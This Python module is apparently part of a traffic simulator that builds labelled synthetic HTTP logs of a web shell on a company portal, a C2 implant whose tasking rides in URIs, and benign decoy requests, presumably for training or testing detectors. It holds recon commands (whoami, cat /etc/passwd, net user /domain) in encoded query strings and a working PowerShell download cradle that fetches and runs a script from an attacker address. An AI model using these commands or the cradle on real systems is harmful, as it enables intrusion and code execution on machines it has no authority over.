"""Commands inside URIs (truth.UriCommandTruth): a web shell on the company's customer portal
(WEB_SERVER, plain HTTP forwarded from the Internet) driven from outside, and an implant whose
C2 tasking rides in its URIs. With their decoys: the portal's ordinary visitors (search words
such as "exec" or "cmd", tracking tokens, JWTs, hashed image names, the admin tool's `action=`
parameters) and workstations' own long URL tokens."""

from __future__ import annotations

import base64
import dataclasses
import json
from dataclasses import dataclass
from urllib.parse import quote

import numpy as np
import numpy.typing as npt

from homecall.simulator.addresses import WEB_SERVER, draw_public_ips, int_to_ip
from homecall.simulator.c2 import c2_domain
from homecall.simulator.exchanges import Exchanges, exchanges, lookup_mask
from homecall.simulator.internet import BROWSERS, RARE_WORDS
from homecall.simulator.truth import BenignWeb, UriCommand, UriCommandTruth
from homecall.simulator.web_runs import (
    DAY_US,
    WebContext,
    WebRun,
    beacon_times,
    benign,
    durations,
    span,
    working_times,
)

__all__ = [
    "CRADLE",
    "PORTAL",
    "SHELL_COMMANDS",
    "SHELL_PATH",
    "TASK_PATH",
    "plan_outbound_tokens",
    "plan_portal",
    "plan_tasking",
    "plan_webshell",
]

PORTAL = "portal.acmecorp.com"
SHELL_PATH = "/uploads/img.php"
TASK_PATH = "/api/v1/task"
VISITOR_BLOCKS = ("24.0.0.0/12", "73.0.0.0/10", "81.96.0.0/12", "86.128.0.0/11", "98.192.0.0/11")
VISITS_PER_DAY = 250  # visitor sessions on a weekday (two fifths of it at weekends)
ATTACKER_AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
# (parameter, encoding, command): reconnaissance, tried for Windows and Linux alike
SHELL_COMMANDS = (
    ("cmd", "plain", "whoami"),
    ("c", "url", "ipconfig /all"),
    ("cmd", "plain", "id"),
    ("q", "base64", "cat /etc/passwd"),
    ("cmd", "url", "net user /domain"),
    ("cmd", "url", "uname -a"),
    ("x", "hex", "tasklist /v"),
    ("cmd", "url", "dir C:\\inetpub\\wwwroot"),
    ("q", "base64", "ls -la /var/www/html"),
    ("cmd", "url", "netstat -ano"),
    ("cmd", "url", "systeminfo"),
)
CRADLE = ("q", "base64", "powershell -nop -enc {enc}")  # each session ends fetching a stager
TASKS = (
    "whoami /all", 'net group "domain admins" /domain', "nltest /dclist:acme", "tasklist /v",
    "ipconfig /all", "systeminfo", "dir C:\\Users\\*\\Desktop", "arp -a",
    "powershell -nop -w hidden -c Get-Process", "cmd.exe /c net use",
    "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
)  # fmt: skip
SEARCHES = (
    "exec summary template", "executive team", "how to run cmd as administrator",
    "cmd key on windows keyboard", "shell oil partnership", "select colour options",
    "powershell training course", "delete my account", "drop off locations", "union rates 2026",
)  # fmt: skip


def _encoded(parameter: str, encoding: str, command: str) -> str:
    """The query string carrying `command` in `encoding`."""
    if encoding == "plain":
        value = command
    elif encoding == "url":
        value = quote(command, safe="/:")
    elif encoding == "base64":
        value = quote(base64.b64encode(command.encode()).decode(), safe="")
    else:  # hex
        value = command.encode().hex()
    return f"?{parameter}={value}"


def _cradle(attacker: int) -> str:
    """A PowerShell download cradle, as `-enc` wants it: UTF-16LE, base64."""
    url = f"http://{int_to_ip(attacker)}/a.ps1"
    script = f"IEX (New-Object Net.WebClient).DownloadString('{url}')"
    return base64.b64encode(script.encode("utf-16-le")).decode()


@dataclass(frozen=True, slots=True)
class _Request:
    ts_us: int
    uri: str
    method: str
    command: UriCommand | None


def plan_webshell(rng: np.random.Generator, ctx: WebContext) -> WebRun:
    """An attacker's sessions with the shell uploaded to the portal: the upload, then a
    command every few seconds; two sessions a day."""
    attacker = ctx.servers(rng, 1)[0]
    requests: list[_Request] = []
    for day in range(ctx.days):
        for hour in sorted(rng.uniform(0, 23.5, size=2)):
            t = ctx.start_us + day * DAY_US + int(hour * 3_600e6)
            if not requests:
                requests.append(_Request(t, "/upload.php", "POST", None))
                t += int(rng.uniform(5, 20) * 1e6)
                requests.append(_Request(t, SHELL_PATH, "GET", None))
            for k in range(int(rng.integers(8, 16))):
                t += int(rng.uniform(4, 40) * 1e6)
                requests.append(_shell_request(rng, t, SHELL_COMMANDS[k % len(SHELL_COMMANDS)]))
            t += int(rng.uniform(4, 40) * 1e6)
            parameter, encoding, command = CRADLE
            requests.append(
                _shell_request(rng, t, (parameter, encoding, command.format(enc=_cradle(attacker))))
            )
    n = len(requests)
    ts = np.array([r.ts_us for r in requests], dtype=np.int64)
    ex = exchanges(
        ts,
        src=attacker,
        server=WEB_SERVER,
        port=80,
        tls=False,
        duration_us=durations(rng, n, 0.15),
        host=PORTAL,
        uri=[r.uri for r in requests],
        method=[r.method for r in requests],
        user_agent=ATTACKER_AGENT,
        mime="text/plain",
        request_body=np.array([1_840 if r.uri == "/upload.php" else 0 for r in requests])
        + np.array([int(rng.integers(40, 200)) if r.method == "POST" else 0 for r in requests]),
        response_body=rng.integers(20, 3_000, n),
    )
    return WebRun(ex, _truth("web-shell", WEB_SERVER, attacker, PORTAL, 80, SHELL_PATH,
                                    ATTACKER_AGENT, ex, [r.command for r in requests]))  # fmt: skip


def _shell_request(rng: np.random.Generator, ts_us: int, order: tuple[str, str, str]) -> _Request:
    """One command to the shell: in the URI (GET, sometimes POST), or only in a POST body."""
    if rng.random() < 0.15:  # the command in a POST body: nothing in the URI
        return _Request(ts_us, SHELL_PATH, "POST", UriCommand(SHELL_PATH, "POST", "", "body", ""))
    parameter, encoding, command = order
    uri = SHELL_PATH + _encoded(parameter, encoding, command)
    method = "POST" if rng.random() < 0.2 else "GET"
    return _Request(ts_us, uri, method, UriCommand(uri, method, parameter, encoding, command))


def _truth(
    kind: str,
    src: int,
    peer: int,
    host: str,
    port: int,
    path: str,
    agent: str,
    ex: Exchanges,
    commands: list[UriCommand | None],
) -> UriCommandTruth:
    order = np.argsort(ex.ts_us, kind="stable")
    requests, first, last = span(ex)
    return UriCommandTruth(
        kind=kind,
        src=int_to_ip(src),
        peer=int_to_ip(peer),
        host=host,
        server=int_to_ip(int(ex.server[0])),
        port=port,
        direction="inbound" if kind == "web-shell" else "outbound",
        path=path,
        user_agent=agent,
        requests=requests,
        first_seen=first,
        last_seen=last,
        commands=tuple(c for i in order if (c := commands[i]) is not None),
        uids=(),
    )


def plan_tasking(rng: np.random.Generator, ctx: WebContext, host: int) -> WebRun:
    """An implant polling `/api/v1/task?id=...`; after a task arrives, its next request
    carries the command it ran, base64url in `d=`."""
    name = c2_domain(rng, ctx.taken)
    server = ctx.servers(rng, 1)[0]
    ts = beacon_times(rng, ctx, host, sleep_s=60, jitter_ratio=0.3)
    n = ts.size
    ident = f"{int(rng.integers(1 << 32)):08x}"
    uris = [f"{TASK_PATH}?id={ident}"] * n
    commands: list[UriCommand | None] = [None] * n
    tasked = np.flatnonzero(rng.random(n) < 60 / 2_400)  # a task every 40 minutes or so
    for i in tasked[tasked + 1 < n]:
        command = TASKS[int(rng.integers(len(TASKS)))]
        data = base64.urlsafe_b64encode(command.encode()).decode().rstrip("=")
        uris[i + 1] = f"{TASK_PATH}?id={ident}&d={data}"
        commands[i + 1] = UriCommand(uris[i + 1], "GET", "d", "base64", command)
    src = np.full(n, ctx.host_ip(host), dtype=np.uint32)
    agent = BROWSERS[int(ctx.fleet.browser[host])][0]  # it borrows the host's browser agent
    response = np.where(np.isin(np.arange(n), tasked), rng.integers(300, 900, n), 0)
    ex = exchanges(
        ts,
        src=src,
        server=server,
        port=80,
        tls=False,
        duration_us=durations(rng, n, 0.12),
        host=name,
        uri=uris,
        user_agent=agent,
        mime="application/json",
        response_body=response + 2,
        resolve=lookup_mask(src, [name] * n, ts, 600),
        ttl_s=600,
    )
    truth = _truth("tasking", ctx.host_ip(host), server, name, 80, TASK_PATH, agent, ex, commands)
    return WebRun(ex, truth)


def _b64url(rng: np.random.Generator, n_bytes: int) -> str:
    return base64.urlsafe_b64encode(rng.bytes(n_bytes)).decode().rstrip("=")


def _jwt(rng: np.random.Generator, subject: int, issued_s: int) -> str:
    """A signed JSON Web Token: base64url JSON header and claims, then a signature."""
    header = {"alg": "HS256", "typ": "JWT"}
    claims = {"sub": str(subject), "iat": issued_s, "exp": issued_s + 3_600, "aud": "portal"}
    parts = [json.dumps(part, separators=(",", ":")).encode() for part in (header, claims)]
    encoded = [base64.urlsafe_b64encode(p).decode().rstrip("=") for p in parts]
    return ".".join([*encoded, _b64url(rng, 32)])


def _visitor_uri(rng: np.random.Generator, kind: str, ts_us: int) -> str:
    word = RARE_WORDS[int(rng.integers(len(RARE_WORDS)))]
    number = int(rng.integers(100, 9_999))
    if kind == "search-words":
        return "/search?q=" + SEARCHES[int(rng.integers(len(SEARCHES)))].replace(" ", "+")
    if kind == "long-token":
        if rng.random() < 0.5:
            return f"/?fbclid=IwAR{_b64url(rng, 44)}"
        return (
            "/?utm_source=newsletter&utm_medium=email&utm_campaign=nov-2026"
            f"&mc_eid={rng.bytes(5).hex()}"
        )
    if kind == "jwt":
        return f"/account/callback?token={_jwt(rng, number, ts_us // 1_000_000)}"
    if kind == "image-hash":
        return f"/static/img/{word}.{rng.bytes(6).hex()}.jpg"
    if kind == "admin-action":
        action = ("edit_page&id={n}", "list_users", "save&id={n}", "logout", "preview&id={n}")
        return "/admin/index.php?action=" + action[int(rng.integers(5))].format(n=number)
    return ("/", f"/products/{number}", "/contact", "/about", f"/news/{word}")[int(rng.integers(5))]


def plan_portal(rng: np.random.Generator, ctx: WebContext) -> list[WebRun]:
    """The portal's visitors from home connections: ordinary pages, and the decoys."""
    runs = []
    for kind, share in (("pages", 0.7), ("search-words", 0.08), ("long-token", 0.1),
                        ("jwt", 0.05), ("image-hash", 0.07), ("admin-action", 0.0)):  # fmt: skip
        times = []
        for day in range(ctx.days):
            weekday = (ctx.start_us // DAY_US + day + 3) % 7 < 5  # 1970-01-01 was a Thursday
            sessions = rng.poisson(VISITS_PER_DAY * share * (1.0 if weekday else 0.4))
            if kind == "admin-action":
                sessions = rng.poisson(40 if weekday else 4)
            hours = np.clip(rng.normal(14, 4, sessions), 0, 23.99)
            times.append(ctx.start_us + day * DAY_US + (hours * 3_600e6).astype(np.int64))
        ts = np.sort(np.concatenate([np.zeros(0, np.int64), *times]))
        n = ts.size
        count = 1 if kind == "admin-action" else n
        visitors = np.array(draw_public_ips(rng, VISITOR_BLOCKS, count, ctx.used_ips))
        src = visitors[rng.integers(0, visitors.size, n)] if n else np.zeros(0, np.uint32)
        agents = [BROWSERS[int(b)][0] for b in rng.integers(0, len(BROWSERS), n)]
        post = (kind == "admin-action") & (rng.random(n) < 0.2)
        uris = [_visitor_uri(rng, kind, int(t)) for t in ts]
        ex = exchanges(
            ts,
            src=src.astype(np.uint32),
            server=WEB_SERVER,
            port=80,
            tls=False,
            duration_us=durations(rng, n, 0.3),
            host=PORTAL,
            uri=uris,
            method=np.where(post, "POST", "GET").tolist(),
            user_agent=agents,
            mime="image/jpeg" if kind == "image-hash" else "text/html",
            request_body=np.where(post, rng.integers(300, 5_000, n), 0),
            response_body=rng.integers(2_000, 60_000, n),
        )
        truth = benign(ctx, ex, f"portal-{kind}", PORTAL, uris[0] if uris else "-")
        runs.append(WebRun(ex, _inbound(truth)))
    return runs


def _inbound(truth: BenignWeb) -> BenignWeb:
    """Decoys on the portal: the internal side of an inbound request is the web server."""
    return dataclasses.replace(truth, src=int_to_ip(WEB_SERVER), hosts=1, via_proxy=False)


def plan_outbound_tokens(
    rng: np.random.Generator, ctx: WebContext, hosts: npt.NDArray[np.int64]
) -> list[WebRun]:
    """Workstations asking plain-HTTP sites for URIs with long tokens, JWTs, hashed image names
    and searches with "exec" or "cmd" in them."""
    cat = ctx.cat
    sites = cat.rare[cat.is_http[cat.rare]]
    runs = []
    for k, kind in enumerate(("long-token", "jwt", "search-words", "image-hash")):
        domain = int(sites[(k * 7) % sites.size]) if sites.size else None
        if domain is None:
            continue
        users = hosts[rng.random(hosts.size) < 0.15]
        who, ts = working_times(rng, ctx, users, 0.6)
        n = ts.size
        src = ctx.fleet.ips[who]
        name = cat.names[domain]
        server = cat.pick_ips(rng, np.full(n, domain))
        if kind == "long-token":
            uris = [f"/r/?u={_b64url(rng, 72)}&sig={rng.bytes(20).hex()}" for _ in range(n)]
        else:
            uris = [_visitor_uri(rng, kind, int(t)) for t in ts]
        ex = exchanges(
            ts,
            src=src,
            server=server,
            port=80,
            tls=False,
            duration_us=durations(rng, n, 0.4),
            host=name,
            uri=uris,
            user_agent=[BROWSERS[int(ctx.fleet.browser[h])][0] for h in who],
            response_body=rng.integers(500, 40_000, n),
            resolve=lookup_mask(src, [name] * n, ts, int(cat.ttl_s[domain])),
            ttl_s=int(cat.ttl_s[domain]),
        )
        runs.append(WebRun(ex, benign(ctx, ex, kind, name, uris[0] if uris else "-")))
    return runs
